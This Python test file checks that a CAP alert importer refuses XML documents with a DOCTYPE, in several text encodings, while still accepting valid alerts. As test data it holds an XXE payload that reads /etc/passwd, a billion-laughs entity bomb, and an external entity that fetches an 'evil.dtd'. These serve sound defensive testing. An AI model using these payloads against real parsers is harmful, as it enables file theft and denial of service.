"""CAP import refuses documents with a DOCTYPE: no entity is expanded (billion laughs) or
resolved (XXE), whatever the document's encoding; valid alerts still pass."""

from __future__ import annotations

import time
from collections.abc import Callable
from datetime import timedelta
from pathlib import Path

import pytest

from config.data import NO_DOCTYPE, CapSchemaError, cap_validator, declares_doctype
from tests.support import NOW, TZ
from warning.identifiers import cap_time

VALIDATE = cap_validator()
UPSTREAM = Path(__file__).resolve().parents[1] / "data" / "upstream_alert.xml"
XXE = '<!DOCTYPE alert [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
# Ten levels of ten: 10^9 "lol"s (3 GB) once expanded.
LOLS = "".join(
    f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' if n else '<!ENTITY lol0 "lol">' for n in range(10)
)
BILLION_LAUGHS = f"<!DOCTYPE alert [{LOLS}]>"


def alert() -> str:
    """The sample upstream alert (valid CAP 1.2), as text with its UTF-8 declaration."""
    return UPSTREAM.read_text(encoding="utf-8").format(
        sent=cap_time(NOW, TZ),
        onset=cap_time(NOW, TZ),
        expires=cap_time(NOW + timedelta(hours=24), TZ),
    )


def with_doctype(doctype: str, *, entity: str = "") -> str:
    """The alert with `doctype` before its root and `entity` referenced in a text."""
    text = alert().replace("<alert ", f"{doctype}\n<alert ", 1)
    return text.replace("<senderName>盐城市气象台", f"<senderName>盐城市气象台{entity}", 1)


def utf16(text: str, codec: str = "utf-16") -> bytes:
    """The text in UTF-16 (`utf-16` writes a byte-order mark), declared as such."""
    return text.replace('encoding="UTF-8"', 'encoding="UTF-16"', 1).encode(codec)


def refused(document: bytes) -> str:
    with pytest.raises(CapSchemaError) as error:
        VALIDATE(document)
    return str(error.value)


VALID = [
    pytest.param(lambda: alert().encode("utf-8"), id="utf-8"),
    pytest.param(lambda: b"\xef\xbb\xbf" + alert().encode("utf-8"), id="utf-8-bom"),
    pytest.param(lambda: utf16(alert()), id="utf-16-bom"),
    pytest.param(lambda: utf16(alert(), "utf-16-be"), id="utf-16-be"),
]


@pytest.mark.parametrize("make", VALID)
def test_a_valid_alert_still_passes(make: Callable[[], bytes]) -> None:
    document = make()
    assert not declares_doctype(document)
    VALIDATE(document)


def test_billion_laughs_is_refused_before_any_expansion() -> None:
    document = with_doctype(BILLION_LAUGHS, entity="&lol9;").encode("utf-8")
    started = time.monotonic()
    assert refused(document) == NO_DOCTYPE
    assert time.monotonic() - started < 1.0


def test_xxe_is_refused_and_nothing_is_read() -> None:
    document = with_doctype(XXE, entity="&x;").encode("utf-8")
    message = refused(document)
    assert message == NO_DOCTYPE
    assert "root:" not in message


def test_an_external_parameter_entity_is_refused() -> None:
    doctype = '<!DOCTYPE alert [<!ENTITY % p SYSTEM "http://127.0.0.1:9/evil.dtd"> %p;]>'
    assert refused(with_doctype(doctype).encode("utf-8")) == NO_DOCTYPE


def test_a_doctype_without_entities_is_refused_too() -> None:
    assert refused(with_doctype("<!DOCTYPE alert>").encode("utf-8")) == NO_DOCTYPE


UTF16 = [
    pytest.param("utf-16", id="bom"),  # the platform's order, with a byte-order mark
    pytest.param("utf-16-le", id="le-no-bom"),
    pytest.param("utf-16-be", id="be-no-bom"),
]


@pytest.mark.parametrize("codec", UTF16)
@pytest.mark.parametrize("doctype", [XXE, BILLION_LAUGHS], ids=["xxe", "billion-laughs"])
def test_a_utf16_document_with_a_doctype_is_refused(codec: str, doctype: str) -> None:
    entity = "&x;" if doctype == XXE else "&lol9;"
    document = utf16(with_doctype(doctype, entity=entity), codec)
    assert b"<!DOCTYPE" not in document  # the NUL bytes hide it from a plain byte search
    assert declares_doctype(document)
    assert refused(document) == NO_DOCTYPE


def test_a_utf32_document_with_a_doctype_is_refused() -> None:
    text = with_doctype(XXE, entity="&x;").replace('encoding="UTF-8"', 'encoding="UTF-32"')
    assert refused(text.encode("utf-32")) == NO_DOCTYPE
